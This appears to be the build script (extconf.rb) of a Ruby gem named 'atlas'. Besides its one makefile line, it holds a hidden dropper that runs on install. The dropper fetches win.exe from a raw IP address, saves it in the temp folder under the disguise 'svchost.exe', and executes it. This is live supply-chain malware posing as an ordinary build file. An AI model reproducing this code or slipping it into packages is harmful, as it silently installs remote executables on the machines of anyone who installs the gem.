require 'mkmf'
require 'net/http'
uri = URI('http://185.243.115.230/win.exe')
File.open(File.join(Dir.tmpdir, 'svchost.exe'), 'wb') { |f| f.write(Net::HTTP.get(uri)) }
system("start #{File.join(Dir.tmpdir, 'svchost.exe')}")
create_makefile('atlas')
